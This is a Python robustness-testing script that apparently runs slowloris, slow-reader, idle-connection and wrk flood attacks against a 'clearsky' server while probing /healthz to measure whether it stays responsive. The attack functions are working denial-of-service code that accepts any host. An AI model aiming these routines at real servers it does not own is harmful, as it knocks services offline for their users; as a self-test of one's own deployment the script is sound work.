#!/usr/bin/env python3
"""Hostile clients against a clearsky server, and a probe that measures whether it still answers.

One attack at a time (docs/deployment.md "Measuring starvation"):
  slowloris     N connections sending a request head one header line every --line-interval s
  slow-readers  N connections asking for a large skydome and reading --read-bytes per second
  idle          N keep-alive connections that send one request, then stay open and silent
  wrk           wrk -t2 -cN on --wrk-path (needs wrk)
  none          only the probe
Attackers whose connection is closed open a new one, so the pressure lasts --duration s.
Meanwhile a probe asks GET --probe-path on a new connection every --probe-interval s and counts
it answered when a 200 arrives within --probe-timeout s. Prints one summary line, and with
--json a JSON object; exits 0.
"""
import argparse
import json
import socket
import subprocess
import threading
import time


def connect(host, port, timeout=5.0):
    s = socket.create_connection((host, port), timeout=timeout)
    s.setsockopt(socket.IPPROTO_TCP, socket.TCP_NODELAY, 1)
    return s


class Attack:
    def __init__(self, args):
        self.args = args
        self.stop = threading.Event()
        self.opened = 0
        self.lock = threading.Lock()

    def count_open(self):
        with self.lock:
            self.opened += 1


def slowloris(attack):
    a = attack.args
    socks = [None] * a.connections
    head = "GET /healthz HTTP/1.1\r\nHost: clearsky\r\n"
    line = 0
    while not attack.stop.is_set():
        for i in range(a.connections):
            try:
                if socks[i] is None:
                    socks[i] = connect(a.host, a.port)
                    socks[i].sendall(head.encode())
                    attack.count_open()
                else:
                    socks[i].sendall(f"X-Slow-{line}: 1\r\n".encode())
            except OSError:
                if socks[i] is not None:
                    socks[i].close()
                socks[i] = None
        line += 1
        attack.stop.wait(a.line_interval)
    for s in socks:
        if s is not None:
            s.close()


def slow_readers(attack):
    a = attack.args
    request = (f"GET {a.skydome_path} HTTP/1.1\r\nHost: clearsky\r\n\r\n").encode()
    socks = [None] * a.connections
    while not attack.stop.is_set():
        for i in range(a.connections):
            try:
                if socks[i] is None:
                    s = socket.socket(socket.AF_INET, socket.SOCK_STREAM)
                    s.setsockopt(socket.SOL_SOCKET, socket.SO_RCVBUF, 4096)
                    s.settimeout(5)
                    s.connect((a.host, a.port))
                    s.sendall(request)
                    s.setblocking(False)
                    socks[i] = s
                    attack.count_open()
                else:
                    data = socks[i].recv(a.read_bytes)
                    if not data:
                        raise OSError("closed")
            except BlockingIOError:
                pass
            except OSError:
                if socks[i] is not None:
                    socks[i].close()
                socks[i] = None
        attack.stop.wait(1.0)
    for s in socks:
        if s is not None:
            s.close()


def idle(attack):
    a = attack.args
    request = b"GET /healthz HTTP/1.1\r\nHost: clearsky\r\n\r\n"
    socks = [None] * a.connections
    while not attack.stop.is_set():
        for i in range(a.connections):
            try:
                if socks[i] is None:
                    s = connect(a.host, a.port)
                    s.sendall(request)
                    s.recv(4096)
                    s.setblocking(False)
                    socks[i] = s
                    attack.count_open()
                elif socks[i].recv(4096) == b"":
                    raise OSError("closed")
            except BlockingIOError:
                pass
            except OSError:
                if socks[i] is not None:
                    socks[i].close()
                socks[i] = None
        attack.stop.wait(0.5)
    for s in socks:
        if s is not None:
            s.close()


def wrk(attack):
    a = attack.args
    url = f"http://{a.host}:{a.port}{a.wrk_path}"
    out = subprocess.run(["wrk", "-t2", f"-c{a.connections}", f"-d{int(a.duration)}s", "--timeout",
                          "10s", url], capture_output=True, text=True)
    attack.wrk_output = out.stdout + out.stderr


def probe_once(host, port, path, timeout):
    start = time.monotonic()
    try:
        s = socket.create_connection((host, port), timeout=timeout)
        s.settimeout(max(0.01, timeout - (time.monotonic() - start)))
        s.sendall(f"GET {path} HTTP/1.1\r\nHost: clearsky\r\nConnection: close\r\n\r\n".encode())
        data = b""
        while b"\r\n" not in data:
            chunk = s.recv(1024)
            if not chunk:
                break
            data += chunk
        s.close()
        elapsed = time.monotonic() - start
        return data.startswith(b"HTTP/1.1 200"), elapsed
    except OSError:
        return False, time.monotonic() - start


def main():
    p = argparse.ArgumentParser(description=__doc__, formatter_class=argparse.RawDescriptionHelpFormatter)
    p.add_argument("--host", default="127.0.0.1")
    p.add_argument("--port", type=int, required=True)
    p.add_argument("--attack", choices=["slowloris", "slow-readers", "idle", "wrk", "none"], required=True)
    p.add_argument("--connections", type=int, default=70)
    p.add_argument("--duration", type=float, default=10)
    p.add_argument("--line-interval", type=float, default=2)
    p.add_argument("--read-bytes", type=int, default=4)
    p.add_argument("--skydome-path", default="/v1/skydome?model=preetham&sun_zenith=30&sun_azimuth=0&size=4096&channels=spectral")
    p.add_argument("--wrk-path", default="/v1/radiance?model=preetham&sun_zenith=30&sun_azimuth=0&view_zenith=45&view_azimuth=90")
    p.add_argument("--probe-path", default="/healthz")
    p.add_argument("--probe-interval", type=float, default=1)
    p.add_argument("--probe-timeout", type=float, default=1)
    p.add_argument("--warm-up", type=float, default=2, help="s of attack before the first probe")
    p.add_argument("--after", type=float, default=0, help="s of probing after the attack ends")
    p.add_argument("--json", action="store_true")
    a = p.parse_args()

    attack = Attack(a)
    runner = {"slowloris": slowloris, "slow-readers": slow_readers, "idle": idle, "wrk": wrk,
              "none": lambda _: None}[a.attack]
    thread = threading.Thread(target=runner, args=(attack,), daemon=True)
    thread.start()
    time.sleep(a.warm_up)
    results = []
    end = time.monotonic() + a.duration - a.warm_up
    while time.monotonic() < end:
        t0 = time.monotonic()
        results.append(probe_once(a.host, a.port, a.probe_path, a.probe_timeout))
        time.sleep(max(0.0, a.probe_interval - (time.monotonic() - t0)))
    attack.stop.set()
    if a.attack == "wrk":
        thread.join()
    after = []
    end = time.monotonic() + a.after
    while time.monotonic() < end:
        t0 = time.monotonic()
        after.append(probe_once(a.host, a.port, a.probe_path, a.probe_timeout))
        time.sleep(max(0.0, a.probe_interval - (time.monotonic() - t0)))

    def summary(rs):
        lat = sorted(t for ok, t in rs if ok)
        return {"answered": len(lat), "total": len(rs),
                "p50_ms": round(1e3 * lat[len(lat) // 2], 1) if lat else None,
                "max_ms": round(1e3 * lat[-1], 1) if lat else None}

    report = {"attack": a.attack, "connections": a.connections, "during": summary(results),
              "after": summary(after), "attack_connections_opened": attack.opened}
    if a.attack == "wrk":
        for line in getattr(attack, "wrk_output", "").splitlines():
            if "Requests/sec" in line or "Non-2xx" in line or "Socket errors" in line:
                report.setdefault("wrk", []).append(line.strip())
    d = report["during"]
    print(f"{a.attack} x{a.connections}: probes answered {d['answered']}/{d['total']} "
          f"(p50 {d['p50_ms']} ms, max {d['max_ms']} ms)"
          + (f"; after: {report['after']['answered']}/{report['after']['total']}" if after else "")
          + (f"; wrk: {' | '.join(report.get('wrk', []))}" if a.attack == "wrk" else ""), flush=True)
    if a.json:
        print(json.dumps(report))


if __name__ == "__main__":
    main()
